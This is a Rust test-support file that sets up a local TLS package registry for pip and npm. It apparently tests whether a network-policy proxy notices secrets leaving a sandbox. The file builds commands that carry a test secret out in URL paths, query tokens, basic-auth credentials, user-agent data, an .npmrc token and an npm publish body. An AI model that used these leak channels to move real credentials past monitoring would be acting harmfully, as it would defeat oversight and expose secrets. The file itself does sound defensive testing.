//! A registry of packages over TLS as PyPI, npm and crates.io have theirs, and how their clients are called: shared by those that
//! are closed in and those that are told of a proxy.
#![allow(clippy::expect_used, clippy::panic, reason = "tests")]

use std::process::Command;

use pipelock_e2e::{SECRET, TlsServer, web_policy};

const REGISTRY: &str = include_str!("../../agents/registry.js");
const PACKAGES: &str = include_str!("../../agents/packages.py");

/// Fetches what is named behind it into `out`.
pub(super) const PIP: &str =
    "pip3 download --quiet --no-cache-dir --disable-pip-version-check --retries 0 --no-deps -d out";
/// Says what was fetched.
pub(super) const SUMS: &str = "sha256sum out/* | cut -d' ' -f1";
/// The package that installs others.
pub(super) const USER: &str = r#"{"name": "user", "version": "1.0.0"}"#;
/// What every call of npm says.
pub(super) const NPM: &str = "--no-audit --no-fund --no-update-notifier --fetch-retries 0 --cache ./cache";

/// A call that sends the secret somewhere.
pub(super) struct Leak {
    pub(super) script: String,
    /// Names and contents of the files that it needs.
    pub(super) files: Vec<(&'static str, String)>,
    /// Where the secret is, as receipts say.
    pub(super) place: &'static str,
    /// What would arrive of the request.
    pub(super) path: &'static str,
}

/// A script that fails, and says how and nothing else.
pub(super) fn to_fail(script: &str) -> String {
    format!("({script}) >client.log 2>&1; echo ended $?")
}

/// Whether it did.
pub(super) fn has_failed(stdout: &[u8]) -> bool {
    let said = String::from_utf8_lossy(stdout);
    said.starts_with("ended ") && said.trim() != "ended 0"
}

/// A registry; `base` is its URL.
pub(super) struct Registry {
    pub(super) server: TlsServer,
    folder: tempfile::TempDir,
    pub(super) base: String,
}

impl Registry {
    /// With packages of these names.
    pub(super) fn of(names: &[&str]) -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        let server = TlsServer::node(&["web.test"], REGISTRY, &[folder.path().to_str().expect("text")]);
        let base = format!("https://web.test:{}", server.port());
        let made = Command::new("/usr/bin/python3")
            .args(["-c", PACKAGES, folder.path().to_str().expect("text"), &base])
            .args(names)
            .output()
            .expect("python3");
        assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
        Self { server, folder, base }
    }

    /// A policy whose rule is for it.
    pub(super) fn policy(&self) -> String {
        web_policy(self.server.port(), "", &self.server.roots())
    }

    pub(super) fn leaks_of_pip(&self) -> Vec<Leak> {
        let base = &self.base;
        let named = base.replace("https://", &format!("https://agent:{SECRET}@"));
        let leak = |script, place, path| Leak { script, files: Vec::new(), place, path };
        vec![
            leak(format!("{PIP} 'plsample @ {base}/files/{SECRET}/plsample-1.0.1-py3-none-any.whl'"), "url", "/files/"),
            leak(format!("{PIP} --index-url '{base}/index?token={SECRET}&project=' plsample"), "url", "/index"),
            leak(format!("{PIP} --index-url {named}/own/ plsample"), "header authorization", "/own/"),
            leak(
                format!("PIP_USER_AGENT_USER_DATA={SECRET} {PIP} --index-url {base}/who/ plsample"),
                "header user-agent",
                "/who/",
            ),
        ]
    }

    /// Prints what the package is and the sum of its archive.
    pub(super) fn npm_installs(&self) -> String {
        let base = &self.base;
        format!(
            "npm install {NPM} --registry {base}/npm/ plsample >&2 && \
             npm pack {NPM} --registry {base}/npm/ plsample >&2 && \
             node -p 'require(\"plsample\")' && sha256sum *.tgz | cut -d' ' -f1"
        )
    }

    pub(super) fn npm_publishes(&self) -> String {
        format!("npm publish {NPM} --registry {}/up/", self.base)
    }

    /// A package with this code, and a token to publish it with.
    pub(super) fn package(&self, code: &str) -> Vec<(&'static str, String)> {
        let about = "{\"name\": \"plsample\", \"version\": \"1.0.0\", \"main\": \"index.js\"}";
        let token = format!("{}/up/:_authToken=plain\n", self.base.trim_start_matches("https:"));
        vec![("package.json", about.to_owned()), ("index.js", code.to_owned()), (".npmrc", token)]
    }

    pub(super) fn leaks_of_npm(&self) -> Vec<Leak> {
        let base = &self.base;
        let token = format!("{}/own/:_authToken={SECRET}\n", base.trim_start_matches("https:"));
        vec![
            Leak {
                script: format!("npm view {NPM} --registry {base}/a/{SECRET}/ plsample"),
                files: Vec::new(),
                place: "url",
                path: "/a/",
            },
            Leak {
                script: format!("npm view {NPM} --registry {base}/own/ plsample"),
                files: vec![(".npmrc", token)],
                place: "header authorization",
                path: "/own/",
            },
            Leak {
                script: self.npm_publishes(),
                files: self.package(&format!("module.exports = {{ token: '{SECRET}' }};\n")),
                place: "body",
                path: "PUT\n/up/",
            },
        ]
    }

    /// The files that the registry serves and whose names end so, by their sums.
    pub(super) fn sums(&self, end: &str) -> Vec<String> {
        let script = format!("find . -name '*{end}' -exec sha256sum {{}} + | cut -d' ' -f1 | sort");
        lines(&Command::new("sh").args(["-c", &script]).current_dir(&self.folder).output().expect("sh").stdout)
    }
}

pub(super) fn lines(text: &[u8]) -> Vec<String> {
    String::from_utf8_lossy(text).lines().map(str::to_owned).collect()
}
